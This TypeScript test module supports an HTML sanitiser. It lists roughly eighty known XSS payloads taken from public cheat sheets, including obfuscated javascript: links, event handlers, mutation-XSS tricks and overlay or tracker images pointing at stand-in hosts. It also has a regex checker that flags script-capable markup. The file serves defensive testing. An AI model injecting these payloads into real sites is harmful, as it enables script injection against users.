/**
 * Test-only data: known XSS payloads (after the OWASP XSS filter evasion
 * cheat sheet, PortSwigger's cheat sheet and published mutation-XSS
 * bypasses of HTML sanitisers) and a parser-free check that sanitised HTML
 * holds nothing script-capable. Used by the sanitiser's unit test and by
 * the community API test, so both hold the server to the same list.
 * Nothing in src imports it outside tests.
 */

/** An upload's file link, the one image source community HTML may keep. */
export const OWN_IMAGE_SRC = '/api/v1/cmmn/file?saveName=AbCdEfGhIjKlMnOpQrStUvWx.png';

export const XSS_VECTORS: readonly string[] = [
  // Script elements, plain and obfuscated.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<svg><script>alert(1)</script></svg>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  `<img src="${OWN_IMAGE_SRC}" onerror="alert(1)" onload="alert(2)">`,
  '<body onload=alert(1)>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<div onmouseover="alert(1)">hover</div>',
  '<p ONCLICK="alert(1)">click</p>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<a href="https://ok.example" onclick="alert(1)" target="_self" rel="opener">x</a>',
  // javascript: links, with case, entities, whitespace and control characters.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="javas\u0000cript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  // vbscript: and data: URLs.
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  // Frames, plugins, forms and document-level elements.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<applet code="x.class"></applet>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  // Styles: CSS expressions and click-jacking overlays.
  "<style>@import 'javascript:alert(1)';</style>",
  '<div style="width: expression(alert(1));">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">가짜 로그인</p>',
  '<a href="https://evil.example" style="position:fixed;inset:0;display:block">overlay</a>',
  '<div class="modal" id="login" data-action="steal">x</div>',
  // Raw-text elements and mutation XSS (parser differentials).
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<option><img src=x onerror=alert(1)></option>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<template><img src=x onerror=alert(1)></template>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  // Images that are not our uploads: quote breaking, other paths, trackers.
  '<img src="/api/v1/cmmn/file?saveName=x.png&quot; onerror=&quot;alert(1)">',
  '<img src="https://evil.example/track.gif">',
  '<img srcset="https://evil.example/a.png 1x" onerror=alert(1)>',
];

const FORBIDDEN_TAG =
  /<\/?(script|iframe|frame|frameset|svg|math|object|embed|applet|form|input|button|textarea|select|option|meta|base|link|style|template|noscript|xmp|body|video|audio|source|details|marquee|table|isindex)\b/i;
const URL_ATTRIBUTE =
  /\s(?:href|src|action|formaction|background|data|xlink:href)\s*=\s*["'`]?\s*([^"'`\s>]*)/gi;

/**
 * What in sanitised HTML could still run script or restyle the page; empty
 * when nothing. Deliberately a plain text scan, not a parser, so it cannot
 * share a parser's blind spots with the sanitiser under test.
 */
export function scriptCapableConstructs(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push('<script');
  const tag = FORBIDDEN_TAG.exec(html);
  if (tag) found.push(`tag ${tag[0]}`);
  const handler = /\son\w+\s*=/i.exec(html);
  if (handler) found.push(`handler ${handler[0].trim()}`);
  if (/\sstyle\s*=/i.test(html)) found.push('style attribute');
  if (/\s(?:class|id|data-[\w-]*|srcdoc|srcset)\s*=/i.test(html))
    found.push('class/id/data attribute');
  for (const m of html.matchAll(URL_ATTRIBUTE)) {
    // Browsers ignore controls and spaces in a scheme: drop all below "!".
    const value = (m[1] ?? '').replace(/[^!-\uffff]/g, '').toLowerCase();
    if (/^(?:javascript|vbscript|data|jav|&#)/.test(value)) found.push(`url ${m[0].trim()}`);
  }
  for (const m of html.matchAll(/<img\b[^>]*>/gi)) {
    if (!m[0].includes(`src="${OWN_IMAGE_SRC.split('?')[0] ?? ''}?saveName=`)) {
      found.push(`foreign image ${m[0]}`);
    }
  }
  for (const m of html.matchAll(/<a\b[^>]*>/gi)) {
    if (!m[0].includes('rel="noopener noreferrer nofollow"') || !m[0].includes('target="_blank"')) {
      found.push(`link without rel/target ${m[0]}`);
    }
  }
  return found;
}
